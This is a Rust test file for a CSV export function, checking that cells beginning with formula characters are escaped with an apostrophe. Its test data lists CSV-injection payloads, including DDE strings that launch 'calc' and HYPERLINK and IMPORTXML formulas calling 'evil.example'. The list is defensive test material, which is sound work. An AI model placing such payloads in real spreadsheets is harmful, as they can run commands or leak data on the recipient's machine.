//! The table, read by a parser that is given nothing but the file.

#![expect(clippy::unwrap_used, reason = "a test ends where its ground is missing")]

use proptest::prelude::*;
use sendoff_handover::write_table;

const CALCULATED: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// What a spreadsheet could take for a formula, in the forms that are known (OWASP, "CSV Injection", read 2026-11-22).
const FORMULAS: [&str; 20] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example\",\"sa\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u{3000}=1+1",
    "=IMPORTXML(CONCAT(\"https://evil.example\"),\"//a\")",
    "+sales@harbour.example",
    "-sa",
];

fn read(file: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(file.as_bytes());
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn table(columns: &[&str], cells: &[&str]) -> String {
    let owned = |cells: &[&str]| cells.iter().map(|&cell| cell.to_owned()).collect::<Vec<_>>();
    write_table(&owned(columns), &[owned(cells)])
}

#[test]
fn it_has_the_columns_to_the_letter_and_a_line_for_each_connection() {
    let file = table(&["Email Server ID", "Enable SMTP over SSI or TLS"], &["", "True"]);
    assert_eq!(file, "\u{feff}\"Email Server ID\",\"Enable SMTP over SSI or TLS\"\r\n\"\",\"True\"\r\n");
    assert_eq!(read(&file), [vec!["Email Server ID", "Enable SMTP over SSI or TLS"], vec!["", "True"]]);
}

#[test]
fn no_cell_can_become_a_formula() {
    for formula in FORMULAS {
        let file = table(&["Column Value", formula], &["sa", formula]);
        assert_eq!(read(&file)[1], ["sa".to_owned(), format!("'{formula}")], "{formula:?}");
        assert_eq!(read(&file)[0][1], format!("'{formula}"), "{formula:?}");
    }
    for plain in ["office@harbour.example", "smtp.office365.com", "587", "a=b", "x-1", "", "'quoted'"] {
        assert_eq!(read(&table(&["a"], &[plain, "b"]))[1][0], plain);
    }
}

proptest! {
    #[test]
    fn whatever_stands_in_a_cell_comes_back_and_calculates_nothing(cells in prop::collection::vec(".*", 2..6)) {
        let columns = vec!["a".to_owned(); cells.len()];
        let file = write_table(&columns, std::slice::from_ref(&cells));
        let found = read(&file);
        prop_assert_eq!(found.len(), 2);
        for (cell, found) in cells.iter().zip(&found[1]) {
            prop_assert!(!found.starts_with(CALCULATED));
            prop_assert_eq!(found.strip_prefix('\'').unwrap_or(found), cell.strip_prefix('\'').unwrap_or(cell));
        }
    }
}
